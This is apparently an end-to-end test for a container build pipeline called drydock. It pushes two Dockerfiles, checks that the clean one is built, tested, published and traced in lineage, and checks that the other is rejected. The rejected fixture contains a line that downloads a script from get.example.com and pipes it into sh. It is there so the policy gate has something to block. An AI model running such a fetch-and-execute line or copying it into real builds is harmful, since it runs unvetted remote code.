// The push flow end to end in one process, on real parts: a git push to a bare repository, the local
// event bus over SQLite queues, the gate, buildah, podman black-box tests, the guarded docker-registry
// and the lineage store. Only `drydock start` (process supervision and the HTTP API) is not in the loop.
import { execFile, execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BuildahBuildService } from '../../adapters/local/buildah-build-service.js';
import { BuildahImageRegistry } from '../../adapters/local/buildah-image-registry.js';
import { seedBusyboxBases } from '../../adapters/local/busybox-base-seeder.js';
import { type ContainerEnv, prepareContainerEnv } from '../../adapters/local/container-env.js';
import {
  type RunningDockerRegistry,
  startDockerRegistry,
} from '../../adapters/local/docker-registry-process.js';
import { FileBuildLogs } from '../../adapters/local/file-build-logs.js';
import { FileTestReports } from '../../adapters/local/file-test-reports.js';
import { GitBuildContext, tempBuildWorkspaces } from '../../adapters/local/git-build-context.js';
import { GitDefinitionSource } from '../../adapters/local/git-definition-source.js';
import {
  createBareRepository,
  definitionsChanged,
  parseRefUpdates,
} from '../../adapters/local/git-repositories.js';
import { PodmanImageTester } from '../../adapters/local/podman-image-tester.js';
import {
  ensurePipelineCredential,
  type RunningPushGuard,
  startRegistryPushGuard,
} from '../../adapters/local/registry-push-guard.js';
import { SqliteBuildRecords } from '../../adapters/local/sqlite-build-records.js';
import { openStateDatabase, type StateDatabase } from '../../adapters/local/sqlite-database.js';
import { SqliteEventLog } from '../../adapters/local/sqlite-event-log.js';
import { SqliteLineageStore } from '../../adapters/local/sqlite-lineage-store.js';
import { SqliteWorkQueue } from '../../adapters/local/sqlite-work-queue.js';
import type { DrydockEvent } from '../../core/events/index.js';
import { EVENT_RULES } from '../../core/events/rules.js';
import { handlePush } from '../../core/gate/handle-push.js';
import { runBuild } from '../../core/pipeline/build-step.js';
import { recordLineage } from '../../core/pipeline/lineage-step.js';
import { publishImage } from '../../core/pipeline/publish-step.js';
import { runImageTests } from '../../core/pipeline/test-step.js';
import { parsePolicy } from '../../core/policy/parse-policy.js';
import { LocalEventBus, type QueuedEvent } from '../../runtime/local/local-event-bus.js';
import { drainOnce, type EventHandler } from '../../runtime/local/queue-worker.js';

const run = promisify(execFile);
const git = (cwd: string, ...args: string[]) =>
  execFileSync('git', ['-c', 'user.name=dev', '-c', 'user.email=dev@example.com', ...args], {
    cwd,
    encoding: 'utf8',
  });

let dir: string;
let registryProcess: RunningDockerRegistry;
let guard: RunningPushGuard;
let containerEnv: ContainerEnv;
let db: StateDatabase;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'drydock-e2e-'));
  registryProcess = await startDockerRegistry({ stateDir: dir, listen: 'unix' });
  const credential = await ensurePipelineCredential(dir);
  guard = await startRegistryPushGuard({ upstream: registryProcess.address, credential });
  containerEnv = await prepareContainerEnv(dir, { insecureRegistries: [guard.host] });
  db = openStateDatabase(join(dir, 'state.db'));
}, 60_000);

afterAll(async () => {
  db?.close();
  await guard?.close();
  await registryProcess?.stop();
  if (containerEnv) {
    const env = { ...process.env, ...containerEnv.env };
    await run('buildah', ['rm', '--all'], { env }).catch(() => undefined);
    await run('buildah', ['rmi', '--all', '--force'], { env }).catch(() => undefined);
  }
  if (dir) rmSync(dir, { recursive: true, force: true });
});

describe('push flow', () => {
  it('publishes the clean definition with its labels and lineage, and only a verdict for the failing one', async () => {
    const credential = await ensurePipelineCredential(dir);
    const registry = new BuildahImageRegistry({ host: guard.host, credential, containerEnv });
    const builder = new BuildahBuildService({ env: containerEnv.env });
    const [base] = await seedBusyboxBases({
      builder,
      registryHost: guard.host,
      versions: ['1.36.0'],
      push: (ref) => registry.push(ref, { repository: 'base/busybox', tag: '1.36.0' }),
    });
    const policy = parsePolicy(
      `version: 1\ntrustedRegistries: ["${guard.host}"]\nallowed:\n  - image: ${guard.host}/base/busybox\n    tags: ["1.36*"]\n`,
    );

    // A team pushes two definitions; the hook's job (which definitions changed) is done by the real git adapter.
    const reposRoot = join(dir, 'repos');
    const repo = await createBareRepository(reposRoot, 'shop', ['true']);
    const work = join(dir, 'work');
    git(dir, 'init', '--quiet', '--initial-branch=main', work);
    const files: Record<string, string> = {
      'hello/Dockerfile': `FROM ${guard.host}/base/busybox:1.36.0\nCOPY greeting.txt /greeting.txt\nUSER 65534\nCMD ["cat", "/greeting.txt"]\n`,
      'hello/greeting.txt': 'hello from drydock\n',
      'hello/image-tests.yaml':
        'schemaVersion: 2.0.0\ncommandTests:\n  - name: greets\n    command: cat\n    args: ["/greeting.txt"]\n    expectedOutput: ["hello from drydock"]\nmetadataTest:\n  user: "65534"\n',
      'bad/Dockerfile': `FROM ${guard.host}/base/busybox:1.36.0\nRUN wget -qO- http://get.example.com/i.sh | sh\n`,
    };
    for (const [path, text] of Object.entries(files)) {
      mkdirSync(join(work, path, '..'), { recursive: true });
      writeFileSync(join(work, path), text);
    }
    git(work, 'add', '.');
    git(work, 'commit', '--quiet', '-m', 'two definitions');
    git(work, 'push', '--quiet', repo.remote, 'main');
    const after = git(work, 'rev-parse', 'HEAD').trim();
    const [update] = parseRefUpdates(`${'0'.repeat(40)} ${after} refs/heads/main\n`);
    const definitions = await definitionsChanged(repo.path, update!);

    const clock = { now: () => new Date() };
    const queues = Object.fromEntries(
      [...new Set(EVENT_RULES.map((r) => r.target))].map((name) => [
        name,
        new SqliteWorkQueue<QueuedEvent>(db, { name, maxReceives: 3, visibilityTimeoutMs: 120_000 }),
      ]),
    );
    const bus = new LocalEventBus(new SqliteEventLog(db), queues, EVENT_RULES);
    const records = new SqliteBuildRecords(db);
    const lineage = new SqliteLineageStore(db);
    const logs = new FileBuildLogs(dir);
    const source = new GitDefinitionSource(reposRoot);
    const published: DrydockEvent[] = [];
    const notified: DrydockEvent[] = [];
    const handlers: Record<string, EventHandler> = {
      gate: async (e) => {
        if (e.detailType !== 'Definition Pushed') return;
        const out = await handlePush(e, { source, policy: async () => policy, clock });
        await bus.publish([...out.verdicts, ...out.builds]);
      },
      build: async (e) => {
        if (e.detailType !== 'Build Requested') return;
        const outcome = await runBuild(e, {
          context: new GitBuildContext(reposRoot),
          builder,
          registry,
          records,
          workspace: tempBuildWorkspaces(join(dir, 'containers', 'tmp')),
          logSink: (id) => logs.open(id),
          timeoutMs: 120_000,
        });
        await bus.publish([outcome]);
      },
      test: async (e) => {
        if (e.detailType !== 'Build Completed') return;
        const tested = await runImageTests(e, {
          source,
          tester: new PodmanImageTester({ env: containerEnv.env }),
          reports: new FileTestReports(dir),
          records,
          clock,
          timeLimitMs: 60_000,
        });
        await bus.publish([tested]);
      },
      publish: async (e) => {
        if (e.detailType !== 'Image Tested') return;
        const event = await publishImage(e, { registry, records, clock });
        published.push(event);
        await bus.publish([event]);
      },
      lineage: async (e) => {
        if (e.detailType === 'Image Published') await recordLineage(e, { lineage });
      },
      notify: async (e) => {
        notified.push(e);
      },
    };

    await bus.publish([
      {
        id: `push-${after}`,
        source: 'drydock',
        detailType: 'Definition Pushed',
        time: new Date().toISOString(),
        detail: {
          repository: 'shop',
          ref: 'refs/heads/main',
          before: '0'.repeat(40),
          after,
          pusher: 'dev',
          definitions,
        },
      },
    ]);
    // Workers drain their queues until a whole pass finds nothing to do.
    for (let pass = 0; pass < 20; pass++) {
      let busy = 0;
      for (const [name, queue] of Object.entries(queues)) {
        const r = await drainOnce(queue, handlers[name]!, { batch: 5 });
        busy += r.handled + r.retried + r.deadLettered;
      }
      if (busy === 0) break;
    }

    for (const queue of Object.values(queues))
      expect(await queue.depth()).toEqual({ visible: 0, inFlight: 0, dead: 0 });
    expect(published).toHaveLength(1);
    const image = published[0]!;
    expect(image.detailType).toBe('Image Published');
    if (image.detailType !== 'Image Published') return;
    expect(image.detail).toMatchObject({ repository: 'shop', definition: 'hello/Dockerfile', commit: after });
    expect(image.detail.bases).toEqual([{ name: `${guard.host}/base/busybox:1.36.0`, digest: base!.digest }]);

    // The image is in the registry, read back anonymously, with the OCI labels the issue names.
    const seen = await registry.inspect(image.detail.ref);
    expect(seen?.digest).toBe(image.detail.digest);
    expect(seen?.labels).toMatchObject({
      'org.opencontainers.image.base.name': `${guard.host}/base/busybox:1.36.0`,
      'org.opencontainers.image.base.digest': base!.digest,
      'org.opencontainers.image.revision': after,
      'org.opencontainers.image.source': 'drydock://shop/hello/Dockerfile',
    });
    // Nothing was published for the failing definition; its verdict carries the findings and went to the team.
    expect((await registry.repositories()).filter((r) => r.includes('bad'))).toEqual([]);
    const verdict = notified.find((e) => e.detailType === 'Definition Verdict');
    expect(verdict?.detailType === 'Definition Verdict' && verdict.detail).toMatchObject({
      definition: 'bad/Dockerfile',
      passed: false,
    });
    if (verdict?.detailType === 'Definition Verdict') {
      expect(verdict.detail.findings.map((f) => f.code)).toContain('DD110');
    }
    // Lineage answers "what was built on this base".
    expect((await lineage.imagesBuiltOn(base!.digest)).map((x) => x.image.digest)).toEqual([
      image.detail.digest,
    ]);
  }, 240_000);
});
